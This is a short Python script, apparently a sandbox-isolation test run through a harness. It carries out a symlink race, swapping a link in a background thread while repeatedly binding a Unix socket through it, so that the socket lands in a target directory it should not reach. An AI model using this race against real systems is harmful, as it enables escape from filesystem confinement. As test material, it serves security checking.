# What is bound here may be reached: a link on the way to it leads to their directory for a moment.
import os
import socket

from inside import Meanwhile, run

ATTEMPTS = 1250


def attack(target):
    os.chdir(target.work)
    directory, name = os.path.split(target.name)
    os.mkdir("mine")
    os.symlink("mine", "link")

    def swap():
        os.symlink(directory, "new")
        os.rename("new", "link")
        os.unlink("link")
        os.symlink("mine", "link")

    with Meanwhile(swap):
        for _ in range(ATTEMPTS):
            try:
                with socket.socket(socket.AF_UNIX) as own:
                    own.bind(f"{target.work}/link/{name}")
                os.unlink(f"mine/{name}")
            except OSError:
                pass
            with socket.socket(socket.AF_UNIX) as client:
                error = client.connect_ex(target.name)
                if error == 0:
                    client.sendall(b"out")
                    return
        raise OSError(error, os.strerror(error))


run(attack)
